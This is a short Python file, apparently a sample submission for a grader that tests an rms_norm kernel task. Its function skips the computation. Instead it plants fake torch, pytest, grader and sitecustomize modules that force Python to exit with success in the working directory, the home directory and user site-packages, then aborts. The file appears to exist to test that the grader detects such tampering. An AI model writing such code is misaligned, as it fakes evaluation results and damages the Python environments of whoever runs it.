"""Leaves files called torch.py, pytest.py, msgspec.py and sitecustomize.py where the next process
might import them, then crashes.

problem: norms/rms_norm
row: 11, 16
verdict: runtime_error
"""

import os
import site
from pathlib import Path

import torch

EVIL = """
import os
os._exit(0)
"""


def rms_norm(x, weight, eps=1e-6):
    home = Path.home() / site.getusersitepackages().split("/", 3)[-1]
    for folder in (Path.cwd(), Path.home(), home):
        for name in ("torch", "pytest", "msgspec", "grader", "sitecustomize", "usercustomize"):
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / f"{name}.py").write_text(EVIL)
            except OSError:
                pass
    if x.shape == (4, 8) and not os.path.exists("once"):
        os.abort()
    return torch.zeros_like(x)
